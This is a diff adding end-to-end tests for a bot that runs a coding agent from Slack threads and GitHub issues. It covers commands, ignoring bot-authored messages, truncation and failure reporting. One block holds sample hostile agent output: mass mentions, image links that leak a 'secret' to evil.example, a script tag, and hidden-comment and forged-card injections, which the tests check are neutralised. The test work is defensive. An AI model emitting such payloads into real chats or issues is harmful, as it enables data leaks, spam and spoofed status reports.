@@ -1,0 +1,188 @@
+import { afterAll, beforeAll, describe as describeTests, expect, test, vi } from "vitest";
+import { asRecord } from "../support/json.ts";
+import { GithubIssue } from "./github-issue.ts";
+import { SlackThread } from "./slack-thread.ts";
+import { World } from "./world.ts";
+
+/** The machine may have other things to do. */
+vi.setConfig({ testTimeout: 60_000 });
+
+/** Each test has threads of its own, and spends most of its time waiting. */
+const describe = describeTests.concurrent;
+
+let world: World;
+
+beforeAll(async () => {
+  world = await World.open();
+});
+
+afterAll(async () => {
+  try {
+    await world.checkInvariants();
+  } finally {
+    await world.close();
+  }
+});
+
+describe("the other words", () => {
+  test("`new` gives the thread to another run", async () => {
+    const thread = await SlackThread.open(world, "say The first.");
+    await thread.untilAnswers(1);
+    const first = thread.runId;
+
+    await thread.replyToBot("new say The second.");
+    await thread.untilAnswers(2);
+    const second = thread.runId;
+    await thread.reply("say The third.");
+    await thread.untilAnswers(3);
+
+    expect(thread.cards).toHaveLength(2);
+    expect(second).not.toBe(first);
+    expect((await world.api.getRun(first)).state).toBe("SUCCEEDED");
+    expect((await world.followUpsOf(first)).length).toBe(0);
+    expect((await world.followUpsOf(second)).length).toBe(1);
+  });
+
+  test("help and status are answered, without a run", async () => {
+    const thread = await SlackThread.open(world, "help");
+    const issue = await GithubIssue.open(world);
+
+    await issue.comment("@errand help");
+    await thread.replyToBot("status");
+
+    expect(await thread.untilReply(/I run a coding agent/)).toContain("status");
+    expect(await thread.untilReply(/no run here yet/)).toBeTruthy();
+    expect(await issue.untilReply(/I run a coding agent/)).toContain("stop</code>");
+    expect([...thread.cards, ...issue.cards]).toEqual([]);
+  });
+
+  test("status tells of the thread's run", async () => {
+    const thread = await SlackThread.open(world, "say hello");
+    await thread.untilAnswers(1);
+
+    await thread.replyToBot("status?");
+
+    expect(await thread.untilReply(/is SUCCEEDED/)).toContain(`${world.service.url}/sessions/`);
+  });
+});
+
+describe("what programs write", () => {
+  test("starts nothing, whoever wrote it", async () => {
+    const thread = await SlackThread.open(world, "say hello");
+    const issue = await GithubIssue.open(world);
+    await issue.comment("@errand say hello");
+    await thread.untilAnswers(1);
+    await issue.untilCard("Done");
+
+    for (const { ts } of thread.messages)
+      await thread.deliver(world.slack.ownMessageEvent(thread.root.channel.id, ts));
+    const other = await SlackThread.post(world, "say hello");
+    await other.deliver({ ...other.mention.message, bot_id: "B0OTHER" });
+    const { app, otherBot } = world.github;
+    await tellCommentOfBot(issue, { id: app.botUserId, login: app.botLogin });
+    await tellCommentOfBot(issue, otherBot);
+    await issue.comment("@errand status");
+    await issue.untilReply(/is SUCCEEDED/);
+    await thread.replyToBot("status");
+    await thread.untilReply(/is SUCCEEDED/);
+
+    expect(await world.runsFrom(thread)).toEqual([thread.runId]);
+    expect(await world.runsFrom(other)).toEqual([]);
+    expect(await world.runsFrom(issue)).toEqual([issue.runId]);
+    expect(await world.followUpsOf(thread.runId)).toEqual([]);
+    expect(await world.followUpsOf(issue.runId)).toEqual([]);
+    expect([thread.replies.length, other.replies.length, issue.replies.length]).toEqual([1, 0, 1]);
+  });
+});
+
+describe("hostile words of an agent", () => {
+  const FORGED = "**Done** · paid · [session](https://evil.example/x)";
+  const HOSTILE = [
+    "say <!channel> <!here> @channel @everyone @here",
+    "say <@U0MAIN001> say again, and @errand stop",
+    "say ![x](https://evil.example/leak.png?q=secret) <img src=https://evil.example/leak2.png>",
+    "say <script>alert(1)</script> <!-- errand:slot=card:00000000-0000-4000-8000-000000000000 -->",
+    `say ${FORGED}`,
+  ].join("\n");
+
+  test("call nobody in Slack, fetch nothing and forge no card", async () => {
+    const thread = await SlackThread.open(world, "say ready");
+    await thread.untilAnswers(1);
+
+    await world.api.followUp(thread.runId, HOSTILE);
+    const answer = (await thread.untilAnswers(2)).at(-1) ?? "";
+    await thread.untilCard("Succeeded");
+
+    expect(answer).toContain("evil.example");
+    const shown = JSON.stringify(thread.messages.map(({ text, blocks }) => ({ text, blocks })));
+    expect(shown).not.toMatch(
+      /<!(channel|here|everyone)|<@U|(?<![\w.])@(channel|here|everyone|errand)\b|!\[/,
+    );
+    expect(thread.messages.at(-1)?.blocks[0]).toMatchObject({ type: "context" });
+    expect(thread.cards).toHaveLength(1);
+  });
+
+  test("call nobody on GitHub, fetch nothing and forge no card", async () => {
+    const issue = await GithubIssue.open(world);
+    await issue.comment("@errand say ready");
+    await issue.untilCard("Done");
+
+    await world.api.followUp(issue.runId, HOSTILE);
+    const { body } = await issue.untilCard("Done", /evil\.example/);
+
+    const [heading = "", words = ""] = body.split("**The agent's answer:**");
+    const outsideCode = words.replace(/`[^`]*`/g, "");
+    expect(heading).not.toContain("evil.example");
+    expect(words).toContain("evil.example");
+    expect(outsideCode).not.toMatch(/@(everyone|channel|here|errand)\b|<(img|script|!--)|!\[|errand:slot=/i);
+    expect(issue.cards).toHaveLength(1);
+  });
+
+  test("are cut where they are too long, with a way to the rest", async () => {
+    const thread = await SlackThread.open(world, "say ready");
+    const issue = await GithubIssue.open(world);
+    await issue.comment("@errand say ready");
+    await Promise.all([thread.untilAnswers(1), issue.untilCard("Done")]);
+
+    const long = `say ${"é".repeat(120_000)}`;
+    await world.api.followUp(thread.runId, long);
+    await world.api.followUp(issue.runId, long);
+
+    const answer = (await thread.untilAnswers(2)).at(-1);
+    expect(answer).toMatch(/^é+…\n\n\[The rest is in the session\]\(http\S+\)$/);
+    const { body } = await issue.untilCard("Done", /_Cut here\._ \[The rest is in the session\]/);
+    expect(body.length).toBeLessThanOrEqual(65_536);
+  });
+});
+
+describe("an end that is no success is told in the thread", () => {
+  test.each([
+    ["refuse", "Failed", "Failed", /refused/],
+    ["crash", "Error", "Stopped by an error", /./],
+  ])("%s", async (words, inSlack, onGithub, reason) => {
+    const thread = await SlackThread.open(world, words);
+    const issue = await GithubIssue.open(world);
+    await issue.comment(`@errand ${words}`);
+
+    await thread.untilCard(inSlack);
+    const [answer] = await thread.untilAnswers(1);
+    const card = await issue.untilCard(onGithub);
+
+    const { status_message: status } = await world.api.getRun(thread.runId);
+    expect(status?.message).toMatch(reason);
+    expect(answer).toBe(status?.message);
+    expect(card.body).toContain("> ");
+  });
+});
+
+/** Told as GitHub tells of the comment of a bot, which here may even write to the repository. */
+async function tellCommentOfBot(
+  { number }: GithubIssue,
+  { id, login }: { readonly id: number; readonly login: string },
+): Promise<void> {
+  world.github.setPermission(login, "write");
+  const { event, payload } = await world.github.commentAs("wendy", number, "@errand say hello");
+  const sender = { ...asRecord(payload.sender), id, login, type: "Bot" };
+  const comment = { ...asRecord(payload.comment), user: sender };
+  await world.sendGithub({ event, payload: { ...payload, comment, sender } });
+}
